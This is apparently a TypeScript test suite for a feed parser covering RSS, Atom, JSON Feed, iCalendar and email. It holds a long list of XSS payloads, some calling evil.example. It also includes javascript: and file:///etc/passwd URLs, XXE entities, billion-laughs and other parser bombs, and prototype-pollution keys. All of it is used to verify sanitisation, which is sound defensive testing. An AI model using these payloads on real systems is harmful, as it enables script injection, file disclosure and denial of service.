import { describe, expect, test } from 'vitest';
import { dangersIn } from './dangers.ts';
import { LIMITS } from './limits.ts';
import { type Draft, type Read, read } from './read.ts';

const URL_HERE = 'https://source.example/dir/feed';
const given = (text: string | Buffer, contentType?: string): Promise<Read> =>
  read({ bytes: Buffer.from(text as string), url: URL_HERE, contentType });
const escaped = (s: string): string =>
  s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const rss = (item: string): string =>
  `<rss version="2.0"><channel><title>t</title><item><title>a</title>${item}</item></channel></rss>`;

async function drafts(text: string): Promise<Draft[]> {
  const r = await given(text);
  if (r.kind !== 'feed') throw new Error(`${r.kind}: ${r.message}`);
  return r.drafts;
}

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<applet code=x>y</applet>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jAvAsCrIpT:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example" onclick=alert(1) target=_blank rel=opener>x</a>',
  '<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example"</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="position:fixed;inset:0">x</div>',
  '<video src=x onerror=alert(1)></video>',
  '<audio autoplay onplay=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '"><img src=x onerror=alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="javascript:alert(1) 1x">',
  '<a id=x name=y class=z href=https://ok.example>x</a>',
  '<p id=location>x</p>',
  '<img src="https://ok.example/a.png" alt="`><script>alert(1)</script>">',
  '<a href="https://user:pass@evil.example/">x</a>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<table background="javascript:alert(1)"><td>x</table>',
  '<portal src=//evil.example>',
  '<dialog open>x</dialog>',
];

describe('row 6 (stored XSS in the body)', () => {
  test.each(PAYLOADS)('nothing of %s runs, however a format carries it', async (payload) => {
    const inJson = JSON.stringify({
      version: 'https://jsonfeed.org/version/1.1',
      title: 't',
      items: [{ id: '1', content_html: payload }],
    });
    const xhtml = `<feed xmlns="http://www.w3.org/2005/Atom"><entry><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">${payload}</div></content></entry></feed>`;
    const mail = `From: a@b.example\r\nSubject: x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${payload}`;
    const ics = `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART:20260101T000000Z\r\nSUMMARY:x\r\nDESCRIPTION:${payload.replace(/[\\;,]/g, '\\$&').replace(/\s+/g, ' ')}\r\nEND:VEVENT\r\nEND:VCALENDAR`;
    const texts = [
      rss(`<description>${escaped(payload)}</description>`),
      rss(`<description>${payload}</description>`),
      `<feed xmlns="http://www.w3.org/2005/Atom"><entry><content type="html">${escaped(payload)}</content></entry></feed>`,
      xhtml,
      inJson,
      mail,
      ics,
      `<!doctype html><html><body><article class="h-entry"><a class="u-url p-name" href="/1">n</a><div class="e-content">${payload}</div></article></body></html>`,
    ];
    for (const text of texts) {
      const r = await given(text);
      if (r.kind === 'feed') for (const d of r.drafts) expect(dangersIn(d.html), text).toEqual([]);
    }
    const [first] = await drafts(texts[0]!);
    expect(first!.text).not.toContain('alert(1)</script>');
  });
});

describe('row 7 (stored XSS in metadata)', () => {
  test.each(PAYLOADS)('%s in every field of every format', async (payload) => {
    const e = escaped(payload);
    const j = JSON.stringify(payload);
    const line = payload.replace(/[\r\n]/g, ' ');
    const texts = [
      `<rss><channel><title>${e}</title><link>${e}</link><language>${e}</language><ttl>${e}</ttl><item><title>${e}</title><link>${e}</link><guid>${e}</guid><author>${e}</author><category>${e}</category><pubDate>${e}</pubDate><enclosure url="${e}" type="${e}" length="${e}"/><comments>${e}</comments></item></channel></rss>`,
      `<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="${e}" xml:base="${e}"><title type="html">${e}</title><link href="${e}"/><entry><id>${e}</id><title>${e}</title><link href="${e}"/><author><name>${e}</name><uri>${e}</uri></author><category term="${e}"/><updated>${e}</updated><summary>${e}</summary><link rel="enclosure" href="${e}" type="${e}"/></entry></feed>`,
      `{"version":"https://jsonfeed.org/version/1","title":${j},"home_page_url":${j},"language":${j},"items":[{"id":${j},"url":${j},"title":${j},"image":${j},"author":{"name":${j}},"tags":[${j}],"attachments":[{"url":${j},"mime_type":${j}}]}]}`,
      `BEGIN:VCALENDAR\r\nX-WR-CALNAME:${line}\r\nBEGIN:VEVENT\r\nUID:${line}\r\nDTSTART:20260101T000000Z\r\nSUMMARY:${line}\r\nLOCATION:${line}\r\nURL:${line}\r\nORGANIZER;CN="${line.replace(/"/g, '')}":${line}\r\nCATEGORIES:${line}\r\nEND:VEVENT\r\nEND:VCALENDAR`,
      `From: "${line.replace(/["\\]/g, '')}" <a@b.example>\r\nSubject: ${line}\r\nList-Id: ${line} <x>\r\nMessage-ID: ${line}\r\nDate: ${line}\r\n\r\nx`,
      `<html lang="${e}"><script type="application/ld+json">{"@type":"Event","name":${j.replace(/</g, '\\u003c')},"url":${j.replace(/</g, '\\u003c')},"startDate":"2026-01-01","location":${j.replace(/</g, '\\u003c')},"image":${j.replace(/</g, '\\u003c')}}</script></html>`,
    ];
    for (const text of texts) {
      const r = await given(text);
      if (r.kind !== 'feed') throw new Error(`${r.kind} ${text}`);
      for (const url of [r.feed.url, r.feed.selfUrl, r.feed.hubUrl])
        if (url !== undefined) expect(url).toMatch(/^https?:\/\//);
      expect(r.feed.language ?? 'en').toMatch(/^[a-zA-Z0-9-]+$/);
      for (const d of r.drafts) {
        expect(dangersIn(d.html)).toEqual([]);
        for (const url of [d.url, d.image?.url, d.action?.url, ...d.enclosures.map((x) => x.url)])
          if (url !== undefined) expect(url).toMatch(/^https?:\/\/[^\s"'<>]+$/);
        for (const x of d.enclosures) expect(x.type ?? 'a/b').toMatch(/^[\w.+-]+\/[\w.+*-]+$/);
        // Plain text on one line; it is for pages to escape it.
        for (const s of [d.title, d.author, ...d.categories])
          expect([...(s ?? '')].every((c) => c >= ' ')).toBe(true);
        for (const at of [d.published, d.updated]) if (at) expect(Number.isFinite(at.getTime())).toBe(true);
      }
    }
  });
});

test('row 8 (schemes): only http, https, mailto and tel come through, in any spelling', async () => {
  const bad = [
    'javascript:alert(1)',
    'JAVASCRIPT:x',
    'javascript&colon;x',
    'java\nscript:x',
    ' \u0000javascript:x',
    'vbscript:x',
    'data:text/html,x',
    'file:///etc/passwd',
    'blob:x',
    'feed:javascript:x',
    'view-source:x',
    'about:blank',
    'intent://x',
    'ftp://a.example/',
  ];
  for (const href of bad) {
    const [d] = await drafts(
      rss(
        `<link>${escaped(href)}</link><description>${escaped(`<a href="${href}">x</a><img src='${href}'><a href=${href}>y</a>`)}</description><enclosure url="${escaped(href)}" type="a/b"/>`,
      ),
    );
    expect(dangersIn(d!.html), href).toEqual([]);
    expect(d!.url ?? 'https:', href).toMatch(/^https?:/);
    expect(
      d!.enclosures.every((e) => /^https?:/.test(e.url)),
      href,
    ).toBe(true);
  }
  const [good] = await drafts(
    rss(
      `<description>${escaped('<a href="mailto:a@b.example">m</a><a href="tel:+44">t</a><a href="/x">r</a><a href="HTTPS://A.example/">h</a>')}</description>`,
    ),
  );
  expect([...good!.html.matchAll(/href="([^"]*)"/g)].map((m) => m[1])).toEqual([
    'mailto:a@b.example',
    'tel:+44',
    'https://source.example/x',
    'HTTPS://A.example/',
  ]);
});

describe('row 12 (bombs): told apart within a second and 200 MB, nothing fetched', () => {
  const entities = (n: number, each: number): string =>
    `<!DOCTYPE rss [<!ENTITY l0 "lol">${[...Array(n).keys()].map((i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(each)}">`).join('')}]>`;
  const BOMBS: [string, string, string][] = [
    ['billion laughs', `${entities(9, 10)}${rss('<description>&l9;</description>')}`, 'bomb'],
    [
      'quadratic blow-up',
      `<!DOCTYPE rss [<!ENTITY a "${'x'.repeat(50_000)}">]>${rss(`<description>${'&a;'.repeat(5_000)}</description>`)}`,
      'bomb',
    ],
    [
      'an entity that holds itself',
      `<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]>${rss('<description>&a;</description>')}`,
      'bomb',
    ],
    ['a bomb in an attribute', `${entities(9, 10)}${rss('<enclosure url="&l9;"/>')}`, 'bomb'],
    ['100,000 deep', `<rss>${'<a>'.repeat(100_000)}`, 'bomb'],
    [
      'a million character references',
      rss(`<description>${'&#65;'.repeat(1_000_000)}</description>`),
      'bomb',
    ],
    [
      'a hundred thousand items',
      `<rss><channel>${'<item><title>x</title></item>'.repeat(100_000)}</channel></rss>`,
      'bomb',
    ],
    [
      'a title of a million letters',
      `<rss><channel><title>t</title><item><title>${'x'.repeat(1_000_000)}</title></item></channel></rss>`,
      'bomb',
    ],
    [
      'JSON 100,000 deep',
      `{"version":"https://jsonfeed.org/version/1","title":"x","items":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
      'bomb',
    ],
    [
      'a hundred thousand JSON items',
      `{"version":"https://jsonfeed.org/version/1","title":"x","items":[${'{"id":"1"},'.repeat(100_000)}{}]}`,
      'bomb',
    ],
    [
      'a hundred thousand events',
      `BEGIN:VCALENDAR\n${'BEGIN:VEVENT\nDTSTART:20260101T000000Z\nSUMMARY:x\nEND:VEVENT\n'.repeat(100_000)}END:VCALENDAR`,
      'bomb',
    ],
    ['calendar parts within parts', `${'BEGIN:VCALENDAR\n'.repeat(100_000)}`, 'bomb'],
    [
      'an event every second for ever',
      'BEGIN:VCALENDAR\nBEGIN:VEVENT\nDTSTART:19000101T000000Z\nRRULE:FREQ=SECONDLY\nSUMMARY:x\nEND:VEVENT\nEND:VCALENDAR',
      'feed',
    ],
    [
      'a mail of many parts',
      `From: a@b.example\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n${'--x\r\n\r\na\r\n'.repeat(100_000)}`,
      'bomb',
    ],
  ];
  test.each(BOMBS)('%s', async (_, text, kind) => {
    const bytes = Buffer.from(text);
    const before = process.memoryUsage().rss;
    const cpu = process.threadCpuUsage();
    const r = await read(
      { bytes, url: URL_HERE },
      { window: { from: new Date('2026-01-01'), to: new Date('2026-12-31') } },
    );
    const { user, system } = process.threadCpuUsage(cpu);
    expect(r.kind).toBe(kind);
    if (r.kind !== 'feed') expect(r.message).toMatch(/^(Its?|This)\b.{10,200}\.$/);
    // The machine that runs this may be busy: this thread's work, not the wall's clock.
    expect((user + system) / 1e6).toBeLessThan(1);
    expect((process.memoryUsage().rss - before) / 1e6).toBeLessThan(200);
  });

  test('external entities and parameter entities are never followed', async () => {
    const [d] = await drafts(
      `<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p; <!ENTITY y PUBLIC "a" "http://evil.example/">]>${rss('<description>a&x;b&y;c</description>')}`,
    );
    expect(d!.text).toBe('a&x;b&y;c');
  });
});

test('row 13 (size): more than the limit is refused, packed bytes are no feed', async () => {
  const r = await read({ bytes: Buffer.alloc(LIMITS.bytes + 1, 0x20) });
  expect(r).toEqual({ kind: 'bomb', message: 'It is larger than any real feed.' });
  expect(await given(Buffer.from([0x1f, 0x8b, 8, 0]))).toEqual({
    kind: 'not-a-feed',
    message: 'This is a packed file, not a feed.',
  });
  const long = await drafts(rss(`<description>${'word '.repeat(2_000_000)}</description>`));
  expect(long[0]!.html.length).toBeLessThan(LIMITS.html + 1_000);
});

describe('row 39 (hostile names and characters)', () => {
  test('names of the language itself are data like any other', async () => {
    const json = `{"version":"https://jsonfeed.org/version/1","title":"x","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"items":[{"id":"1","__proto__":{"title":"p","url":"https://p.example/"},"constructor":1,"toString":"x"},{"id":"__proto__","title":"constructor","tags":["__proto__"]}]}`;
    const [one, two] = await drafts(json);
    expect(one).toMatchObject({ guid: '1' });
    expect(one!.title).toBeUndefined();
    expect(two).toMatchObject({ guid: '__proto__', title: 'constructor', categories: ['__proto__'] });
    const xml = await drafts(
      '<rss xmlns:__proto__="a"><channel __proto__="x" constructor="y"><item><guid>a</guid><__proto__>x</__proto__><constructor>y</constructor><__proto__:title>z</__proto__:title><title>ok &constructor; &__proto__;</title></item></channel></rss>',
    );
    expect(xml[0]!.title).toBe('ok &constructor; &__proto__;');
    await given(
      'BEGIN:VCALENDAR\nBEGIN:VEVENT\n__PROTO__:x\nCONSTRUCTOR;__PROTO__=x:y\nDTSTART;TZID=__proto__:20260101T000000\nSUMMARY:x\nEND:VEVENT\nEND:VCALENDAR',
    );
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  test('NUL and lone surrogates never come out', async () => {
    for (const text of [
      rss('<description>a\u0000b\ud800c &#0; &#xD800; &#xDFFF; &#x110000; d</description>'),
      `{"version":"https://jsonfeed.org/version/1","title":"t\\u0000","items":[{"id":"a\\u0000","title":"x\\ud800y","content_text":"\\ud800 \\u0000"}]}`,
    ]) {
      const said = JSON.stringify(await drafts(text));
      expect(said).not.toMatch(/\\u0000|\\ud[89a-f]/i);
    }
  });

  test('a hundred thousand keys, and keys given twice', async () => {
    const keys = [...Array(100_000).keys()].map((i) => `"k${i}":1`).join(',');
    const [d] = await drafts(
      `{"version":"https://jsonfeed.org/version/1","title":"x","items":[{"id":"1",${keys},"title":"first","title":"second"}]}`,
    );
    expect(d!.title).toBe('second');
    const attributes = [...Array(20_000).keys()].map((i) => `a${i}="1"`).join(' ');
    expect(
      (await drafts(`<rss><channel><item ${attributes}><title>x</title></item></channel></rss>`))[0]!.title,
    ).toBe('x');
  });
});
